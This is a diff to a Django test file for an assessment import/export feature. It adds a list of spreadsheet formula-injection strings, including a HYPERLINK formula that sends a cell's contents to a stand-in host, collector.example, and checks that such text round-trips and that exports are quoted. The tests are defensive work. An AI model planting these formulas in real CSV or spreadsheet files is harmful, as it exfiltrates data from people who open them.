@@ -14,11 +14,21 @@ from tests.assessments.tables import LEAVE, OVERTIME, ROW, check, file_of, load,
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("run_jobs")]
 
 
-def test_an_export_is_imported_as_it_was(world):
+ATTACKS = [
+    "=SUM(1) and '+1",
+    'Slips are given;=HYPERLINK("http://collector.example/?"&A1,"open");end',
+    "Line one\n=1+1+cmd",
+    "Tab\t=2+2",
+    "ends;",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_an_export_is_imported_as_it_was(world, text):
     by = world.person("team_leader")
-    load(by, table({}, OVERTIME, {**LEAVE, "Finding": "=SUM(1) and '+1"}))
+    load(by, table({}, OVERTIME, {**LEAVE, "Finding": text}))
     made = Assessment.objects.get(quest_id="70003")
-    assert world.answer(made, "1022").value == "=SUM(1) and '+1"
+    assert world.answer(made, "1022").value == text
     rows = [
         {
             "country": "Cambodia",
@@ -48,7 +58,7 @@ def test_the_csv_that_staff_order_goes_back_in(world, state):
     national = {**OVERTIME, "Finding": "1", "Tags": "Public Disclosure;National Law"}
     step3 = {**LEAVE, "CP": "Overtime", "Question ID": "1021", "Question type": "NC", "Finding": "0"}
     step3["Q Label"] = "Overtime is not voluntary"
-    load(by, table({}, national, {**LEAVE, "Finding": "=1+1"}, step3))
+    load(by, table({}, national, {**LEAVE, "Finding": ATTACKS[1]}, step3))
     made = Assessment.objects.get(quest_id="70003")
     for step in ("send_to_factory", "publish") if state == "published" else ():
         take_step(by=by, assessment=made, name=step)
@@ -62,7 +72,7 @@ def test_the_csv_that_staff_order_goes_back_in(world, state):
     if state == "published":
         theirs = file_of(world.person("manager_b"), made, "csv").decode()
         assert "Zero Tolerance" not in theirs
-        assert "Cambodia," in theirs, "the programme's words, though it was ordered in French"
+        assert '"Cambodia",' in theirs, "the programme's words, though it was ordered in French"
         assert made.tool.name not in theirs
         assert "voluntary" not in theirs
 
